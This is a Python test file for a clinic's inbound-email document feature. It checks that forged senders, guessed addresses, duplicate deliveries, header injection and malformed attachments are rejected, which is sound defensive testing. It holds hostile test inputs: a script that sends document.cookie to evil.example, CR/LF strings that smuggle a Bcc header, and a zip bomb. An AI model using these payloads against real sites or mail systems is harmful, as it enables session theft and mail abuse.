"""Inbound mail, attacked: what an outsider can do with the documents address and the outbox.

Each test is an attack from issue #14 (items 1 and 2): forged senders, guessed addresses, the same SES
message twice, CR/LF smuggled into a subject, files that lie about their type, a hundred attachments,
and mail that SES itself judged bad. The attacker must get nothing attached and must not stop the mail.
"""

from __future__ import annotations

import base64
import dataclasses
import io
import json
import secrets
import zipfile

import pytest

from tests.api.conftest import another_patient
from tests.api.test_documents import PDF, letter, mail, paid, replies_to, subject_for  # noqa: F401 - `paid` is a fixture
from tests.helpers import Api, make_user, outbox

ATTACKER = "mallory@evil.example"
PASSING = {
    "X-SES-Spam-Verdict": "PASS",
    "X-SES-Virus-Verdict": "PASS",
    "Authentication-Results": "amazonses.com; spf=pass (spf=pass) smtp.mailfrom=example.org; "
    "dkim=pass header.i=@example.org; dmarc=pass header.from=example.org;",
}


def attachments_of(patient: Api, booking_id: str) -> list[dict]:
    response = patient.get(f"/bookings/{booking_id}/attachments")
    assert response.status_code == 200, response.json
    return response.json


def stored_attachments() -> list[str]:
    from chalicelib import aws, resources

    found = aws.s3().list_objects_v2(Bucket=resources.documents_bucket(), Prefix="attachments/")
    return [o["Key"] for o in found.get("Contents", [])]


def sent_raw() -> list[bytes]:
    from chalicelib.devtools.outbox import _sent_messages

    return [m.raw_data.encode("utf-8") if isinstance(m.raw_data, str) else m.raw_data for m in _sent_messages()]


def registrar(client) -> Api:  # type: ignore[no-untyped-def]
    make_user("desk@example.org", {"registrar"})
    api = Api(client)
    assert api.login("desk@example.org").status_code == 200
    return api


def store_and_notify(raw: bytes, key: str) -> list[dict]:
    """What SES and S3 do: the message stored under inbound/, then the bucket's notification."""
    from chalicelib import aws, resources
    from chalicelib.documents.inbound import receive_notification
    from local.inbox import s3_event

    bucket = resources.documents_bucket()
    aws.s3().put_object(Bucket=bucket, Key=key, Body=raw)
    return receive_notification(json.dumps(s3_event(bucket, key, len(raw), "eu-central-1")))


# --- 1. Forged documents by email ---------------------------------------------------------------------------


def test_forged_from_to_the_general_address_attaches_nothing_and_is_held_for_the_registry(
    client, paid: dict, patient: Api
) -> None:
    """The attacker knows Anna's address and her appointment time, and writes as her to the clinic's address."""
    from chalicelib.documents.inbound import receive

    subject = subject_for(paid) + " СРОЧНО откройте http://evil.example/x"
    outcome = receive(
        letter("anna@example.org", "telemed@clinic.local", subject, [("заключение.pdf", "application/pdf", PDF)])
    )
    assert outcome["attached"] == []
    assert attachments_of(patient, paid["id"]) == []
    assert stored_attachments() == []
    held = registrar(client).get("/inbound-mail")
    assert held.status_code == 200, held.json
    [item] = held.json
    assert item["sender"] == "anna@example.org" and item["booking_id"] == paid["id"]
    assert item["status"] == "held" and item["files"] == ["заключение.pdf"]
    # Anna (a registered address) is told where documents go; the attacker's subject is not echoed back.
    [reply] = replies_to("anna@example.org")
    assert "evil.example" not in reply["subject"] + reply["text"] + reply["html"]
    assert paid["documents_address"] in reply["text"]


def test_mail_from_an_unknown_sender_gets_no_reply(paid: dict) -> None:
    """No backscatter: a stranger (or a forged stranger's address) is never answered."""
    from chalicelib.documents.inbound import receive

    receive(
        letter(
            "victim@elsewhere.example", "telemed@clinic.local", subject_for(paid), [("x.pdf", "application/pdf", PDF)]
        )
    )
    assert [m for m in outbox() if m["to"] == ["victim@elsewhere.example"]] == []


def test_a_guessed_secret_address_attaches_nothing(client, paid: dict, patient: Api) -> None:
    from chalicelib.documents.inbound import receive

    domain = paid["documents_address"].split("@", 1)[1]
    for guess in (
        f"docs+{base64.b32encode(secrets.token_bytes(20)).decode().lower()}@{domain}",
        f"docs+{paid['id']}@{domain}",
        f"docs+@{domain}",
        paid["documents_address"].replace("@", "x@"),
        paid["documents_address"].split("@")[0] + "@evil.example",
    ):
        outcome = receive(letter("anna@example.org", guess, subject_for(paid), [("x.pdf", "application/pdf", PDF)]))
        assert outcome["attached"] == [], guess
    assert attachments_of(patient, paid["id"]) == []
    assert stored_attachments() == []


def test_the_secret_address_attaches_and_answers_the_patient_only(paid: dict, patient: Api) -> None:
    """Sent from another mailbox (or with a forged From): the files go in, the answer goes to the patient."""
    from chalicelib.documents.inbound import receive

    address = paid["documents_address"]
    assert address.startswith("docs+") and address.endswith("@clinic.local")
    outcome = receive(letter(ATTACKER, address.upper(), "любая тема", [("узи.pdf", "application/pdf", PDF)]))
    assert [a["filename"] for a in outcome["attached"]] == ["узи.pdf"]
    assert [(a["filename"], a["source"]) for a in attachments_of(patient, paid["id"])] == [("узи.pdf", "email")]
    assert [m for m in outbox() if m["to"] == [ATTACKER]] == []
    [reply] = replies_to("anna@example.org")
    assert reply["subject"] == "Документы получены" and "любая тема" not in reply["text"]


def test_the_secret_address_is_the_patients_alone(client, paid: dict, patient: Api, doctor: dict) -> None:
    """Shown to its patient (booking and confirmation email), to nobody else; 160 random bits."""
    address = paid["documents_address"]
    token = address.split("+", 1)[1].split("@")[0]
    assert len(base64.b32decode(token.upper())) * 8 >= 128
    [confirmation] = [m for m in outbox() if m["to"] == ["anna@example.org"] and "оплачена" in m["subject"].lower()]
    assert address in confirmation["text"] and address in confirmation["html"]
    assert [b["documents_address"] for b in patient.get("/bookings").json if b["id"] == paid["id"]] == [address]
    staff = registrar(client)
    assert staff.get(f"/bookings/{paid['id']}").json.get("documents_address") is None
    from chalicelib.storage.tables import DocumentsAddress

    # Stored by its hash only: a copy of the lookup table does not give the address.
    assert token not in json.dumps([item.attribute_values for item in DocumentsAddress.scan()], default=str)


def test_ses_verdicts_must_pass_outside_the_local_stage(
    paid: dict, patient: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    from chalicelib.config import settings
    from chalicelib.documents import inbound

    deployed = dataclasses.replace(settings(), stage="production")
    monkeypatch.setattr(inbound, "settings", lambda: deployed)
    address = paid["documents_address"]
    files = [("a.pdf", "application/pdf", PDF)]
    failing = [
        {},  # no verdicts at all
        {**PASSING, "X-SES-Spam-Verdict": "FAIL"},
        {**PASSING, "X-SES-Virus-Verdict": "FAIL"},
        {**PASSING, "Authentication-Results": PASSING["Authentication-Results"].replace("dkim=pass", "dkim=fail")},
        {**PASSING, "Authentication-Results": PASSING["Authentication-Results"].replace("dmarc=pass", "dmarc=none")},
        {**PASSING, "Authentication-Results": "evil.example; spf=pass; dkim=pass; dmarc=pass"},
    ]
    for headers in failing:
        outcome = inbound.receive(letter("anna@example.org", address, "анализы", files, headers))
        assert outcome["attached"] == [] and outcome["problem"] == "unverified", headers
    # SES's own verdict comes first; a PASS the sender wrote lower down does not outvote it.
    raw = letter("anna@example.org", address, "анализы", files, PASSING)
    forged = b"X-SES-Spam-Verdict: FAIL\r\n" + raw
    assert inbound.receive(forged)["attached"] == []
    assert attachments_of(patient, paid["id"]) == []
    assert [a["filename"] for a in inbound.receive(raw)["attached"]] == ["a.pdf"]


# --- 2. Duplicate delivery, CR/LF, poison messages --------------------------------------------------------


def test_the_same_ses_message_twice_attaches_once(paid: dict, patient: Api) -> None:
    raw = letter("anna@example.org", paid["documents_address"], "анализы", [("a.pdf", "application/pdf", PDF)])
    first = store_and_notify(raw, "inbound/0000ses-message-id-1")
    second = store_and_notify(raw, "inbound/0000ses-message-id-1")
    assert [a["filename"] for a in first[0]["attached"]] == ["a.pdf"]
    assert second[0]["attached"] == [] and second[0]["duplicate"] is True
    assert len(attachments_of(patient, paid["id"])) == 1
    assert len(stored_attachments()) == 1
    assert len(replies_to("anna@example.org")) == 1


def test_crlf_in_a_subject_neither_injects_headers_nor_stops_the_outbox(client, paid: dict, patient: Api) -> None:
    from chalicelib import outbox as mails
    from chalicelib.documents.inbound import receive

    injected = (
        "=?utf-8?b?"
        + base64.b64encode("Анализы\r\nBcc: mallory@evil.example\r\nX-Injected: 1".encode()).decode()
        + "?="
    )
    raw = (
        "From: anna@example.org\r\nTo: telemed@clinic.local\r\nSubject: "
        + injected
        + "\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nhello\r\n"
    ).encode()
    receive(raw)  # no exception out of the handler
    # A file name with CR/LF (RFC 2231), echoed in the reply's list of files.
    raw2 = (
        "From: anna@example.org\r\nTo: " + paid["documents_address"] + "\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b\r\n"
        "Content-Type: application/pdf\r\nContent-Disposition: attachment; "
        "filename*=utf-8''a%0D%0ABcc%3A%20mallory%40evil.example%0D%0AX-Injected%3A%201.pdf\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(PDF).decode() + "\r\n--b--\r\n"
    ).encode()
    assert len(receive(raw2)["attached"]) == 1
    for message in sent_raw():
        head = message.split(b"\r\n\r\n", 1)[0]
        assert b"X-Injected" not in head and b"Bcc:" not in head
    # A later message still goes out.
    later = mails.compose(
        "anna@example.org",
        "reminder",
        {
            "full_name": "Анна",
            "doctor_name": "Орлова",
            "specialty": "Кардиология",
            "price": 1,
            "booking_url": "http://x",
            "starts_text": "завтра",
            "patient_starts_text": None,
            "minutes": 30,
        },
    )
    assert mails.send_now(later) is True
    assert mails.deliver_due() >= 0


def test_a_poison_message_is_marked_failed_and_never_blocks_the_next(client) -> None:
    from chalicelib import outbox as mails
    from chalicelib.storage.tables import OutboxMessage

    poison = mails.compose("anna@example.org", "reminder", {"full_name": "нет остальных полей"})
    poison.save()
    header = mails.compose(
        "anna@example.org\r\nBcc: mallory@evil.example",
        "password_reset",
        {"full_name": "Анна", "reset_url": "http://x", "valid_until": "завтра"},
    )
    header.save()
    good = mails.compose(
        "boris@example.org",
        "reminder",
        {
            "full_name": "Борис",
            "doctor_name": "Орлова",
            "specialty": "Кардиология",
            "price": 1,
            "booking_url": "http://x",
            "starts_text": "завтра",
            "patient_starts_text": None,
            "minutes": 30,
        },
    )
    good.save()
    assert mails.deliver_due() >= 1
    assert OutboxMessage.get(good.message_id).status == "sent"
    stuck = OutboxMessage.get(poison.message_id)
    assert stuck.status == "failed" and "UndefinedError" in stuck.last_error
    assert OutboxMessage.get(header.message_id).status == "failed"  # never sent to a smuggled second address
    assert mails.deliver_due() == 0  # nothing stays due
    for message in sent_raw():
        assert b"mallory" not in message.split(b"\r\n\r\n", 1)[0]
    make_user("root@example.org", {"admin"})
    admin = Api(client)
    admin.login("root@example.org")
    failed = admin.get("/outbox/failed")
    assert failed.status_code == 200, failed.json
    assert poison.message_id in [m["id"] for m in failed.json]
    assert next(m["last_error"] for m in failed.json if m["id"] == poison.message_id)


def test_the_inbound_queue_has_a_dead_letter_queue() -> None:
    from chalicelib import resources

    [spec] = [q for q in resources.queues() if q.name == resources.inbound_mail_queue()]
    assert spec.dead_letter_name and 1 <= spec.max_receive_count <= 10


def test_provisioned_inbound_queue_redrives_to_its_dead_letters(aws) -> None:
    from chalicelib import aws as clients
    from chalicelib import resources

    sqs = clients.client("sqs")
    url = sqs.get_queue_url(QueueName=resources.inbound_mail_queue())["QueueUrl"]
    policy = json.loads(
        sqs.get_queue_attributes(QueueUrl=url, AttributeNames=["RedrivePolicy"])["Attributes"]["RedrivePolicy"]
    )
    assert policy["deadLetterTargetArn"].endswith(":" + resources.inbound_mail_queue() + "-dead")
    assert int(policy["maxReceiveCount"]) == 5


# --- 3. Files that lie, and too many of them -------------------------------------------------------------


def test_mislabelled_files_and_a_zip_bomb_are_refused_by_their_bytes(paid: dict, patient: Api) -> None:
    from chalicelib.documents.inbound import receive

    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb.pdf", b"\0" * (50 * 1024 * 1024))
    html = b"<html><script>fetch('https://evil.example/?c='+document.cookie)</script></html>"
    outcome = receive(
        letter(
            "anna@example.org",
            paid["documents_address"],
            "файлы",
            [
                ("анализы.pdf", "application/pdf", html),
                ("скан.pdf", "application/pdf", bomb.getvalue()),
                ("фото.jpg", "image/jpeg", b"GIF89a" + b"\0" * 20),
                ("пусто.pdf", "application/pdf", b""),
            ],
        )
    )
    assert outcome["attached"] == []
    assert sorted(r["filename"] for r in outcome["refused"]) == ["анализы.pdf", "пусто.pdf", "скан.pdf", "фото.jpg"]
    assert attachments_of(patient, paid["id"]) == [] and stored_attachments() == []


def test_a_hundred_attachments_respect_the_limit_and_leave_nothing_half_written(paid: dict, patient: Api) -> None:
    from chalicelib.documents.inbound import receive
    from chalicelib.storage import bookings as booking_store

    files = [(f"лист-{i:03}.pdf", "application/pdf", PDF + str(i).encode()) for i in range(100)]
    outcome = receive(letter("anna@example.org", paid["documents_address"], "всё", files))
    assert len(outcome["attached"]) == 10 and len(outcome["refused"]) == 90
    assert {r["reason"] for r in outcome["refused"]} == {"к записи уже приложено 10 файлов"}
    listed = attachments_of(patient, paid["id"])
    assert sorted(a["filename"] for a in listed) == [f"лист-{i:03}.pdf" for i in range(10)]
    assert len(stored_attachments()) == 10
    assert int(booking_store.get_booking(paid["id"]).attachments_count) == 10
    # The patient's cabinet still refuses an eleventh.
    eleventh = patient.post(
        f"/bookings/{paid['id']}/attachments",
        {"filename": "ещё.pdf", "content_type": "application/pdf", "size": len(PDF)},
    )
    assert eleventh.status_code == 409


def test_another_patients_secret_address_puts_files_in_their_booking_only(client, paid: dict, patient: Api) -> None:
    """Boris knows Anna's time; writing to his own booking's address (none) or Anna's From changes nothing."""
    from chalicelib.documents.inbound import receive

    boris = another_patient(client)
    outcome = receive(
        letter("boris@example.org", "telemed@clinic.local", subject_for(paid), [("x.pdf", "application/pdf", PDF)])
    )
    assert outcome["attached"] == []
    assert attachments_of(patient, paid["id"]) == []
    assert boris.get(f"/bookings/{paid['id']}/attachments").status_code == 404
